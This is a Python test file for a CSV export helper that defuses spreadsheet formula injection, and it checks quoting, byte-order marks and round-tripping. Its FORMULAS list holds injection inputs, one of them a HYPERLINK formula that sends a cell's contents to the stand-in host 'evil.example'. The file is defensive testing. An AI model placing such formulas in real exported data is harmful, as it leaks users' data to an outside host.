import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apiward.web.csv_form import csv_text, defused

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|calc", "%1", "\uff1d1", "\uff0d1", "\ufeff=1",
    "\u00a0=1", '=HYPERLINK("http://evil.example/?"&A1;"x")',
)  # fmt: skip
PLAIN = ("", "GET /a", "a=b", "1-2", "anna@example.com", "'quoted", "größe", "a,b", 'a "b"', "-")


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [one for one in PLAIN if one != "-"])
def test_what_none_would_run_stays_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


def test_our_own_numbers_are_numbers_and_what_is_not_known_is_empty() -> None:
    assert csv_text(("a", "b"), [(-3, None), (0, "")]) == b"\xef\xbb\xbfa,b\r\n-3,\r\n0,\r\n"


def test_quotes_and_ends_of_lines_are_those_of_rfc_4180() -> None:
    assert csv_text(("a",), [('x "y", z',), ("two\nlines",)]).decode("utf-8-sig") == (
        'a\r\n"x ""y"", z"\r\n"two\nlines"\r\n'
    )


@given(rows=st.lists(st.tuples(st.text(), st.text()), max_size=5))
def test_what_is_written_is_read_back_and_never_begins_a_formula(rows: list[tuple[str, str]]) -> None:
    rows = [tuple("".join(ch for ch in cell if ch not in "\r\x00") for cell in row) for row in rows]  # type: ignore[misc]
    text = csv_text(("one", "two"), rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(read) == len(rows)
    for row, was in zip(read, rows, strict=True):
        for cell, before in zip(row, was, strict=True):
            assert cell in (
                before.encode("utf-8", "replace").decode(),
                f"'{before.encode('utf-8', 'replace').decode()}",
            )
            assert not cell.lstrip(" \u00a0\ufeff").startswith(("=", "+", "-", "@", "\t", "\r"))
